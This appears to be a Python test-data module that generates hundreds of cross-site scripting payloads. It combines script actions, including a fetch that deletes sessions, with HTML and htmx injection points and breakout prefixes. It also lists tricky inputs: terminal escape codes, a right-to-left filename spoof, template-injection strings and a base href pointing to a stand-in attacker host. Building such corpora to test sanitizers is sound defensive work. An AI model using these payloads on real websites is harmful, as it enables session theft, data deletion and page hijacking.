"""Five hundred hostile texts, made from parts: what runs, where it would have to stand, and how it is disguised."""

from __future__ import annotations

import itertools
from typing import Final

_RUNS: Final = ("alert(1)", "top.pwned=1", "fetch('/api/sessions',{method:'DELETE'})", "import('/x.js')")
_WHERE: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<details open ontoggle={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button autofocus>x",
    "<input autofocus onfocus={}>",
    "<math><mtext><img src onerror={}></mtext></math>",
    "<template><script>{}</script></template>",
    "<style>@import 'javascript:{}';*{{display:none}}</style>",
    "<link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D><b onmouseover={}>",
    "<base href=//evil.invalid><script src=x.js>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<div hx-get=/x hx-on::load={} hx-trigger=load>",
    "<div hx-on:click={} hx-vals='js:{{a:1}}'>",
)
_AROUND: Final = (
    "{}",
    '">{}',
    "'>{}",
    "</pre></span></td>{}",
    "--></textarea></title></template>{}",
    "{{{{ 7*7 }}}}{{% raw %}}{}",
    "]]>{}",
)
_QUIET: Final = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\x1b]0;owned\x07\x1b[2J",
    "a\u202egnp.exe\u202c",
    "\u2066x\u2069\u200b\ufeff",
    "\x00\x08\x0b\x7f\x9b31m",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "\N{COMBINING GRAVE ACCENT}" * 40,
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800 half a character".encode("utf-8", "replace").decode(),
    "@@ -1 +1 @@\n--- a/x\n+++ b/<img src=x onerror=alert(1)>",
)


def payloads(number: int = 500) -> list[str]:
    """So many, all different."""
    made = [around.format(where.format(run)) for around, where, run in itertools.product(_AROUND, _WHERE, _RUNS)]
    return [*_QUIET, *made][:number]
